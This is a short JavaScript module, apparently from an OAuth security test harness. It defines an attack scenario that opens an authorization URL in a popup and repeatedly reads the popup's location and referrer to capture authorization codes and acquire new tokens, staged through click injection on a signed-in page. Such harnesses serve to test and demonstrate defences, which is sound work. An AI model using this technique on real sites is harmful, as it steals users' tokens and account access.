import { attack } from "../attack.js";

export default attack({
  name: "runs a silent flow in a popup",
  threat: "acquisition of new tokens",
  target: "any",
  wantsCode: true,
  async payload(it) {
    const popup = open(it.authorizationUrl());
    for (let tries = 0; tries < 80; tries++) {
      try {
        it.steal(popup?.location.href, popup?.document.referrer);
      } catch {
        // The popup is cross-origin now.
      }
      await it.pause(10);
    }
    popup?.close();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.injectOnClick();
    await stage.closeOtherTabs();
  },
});
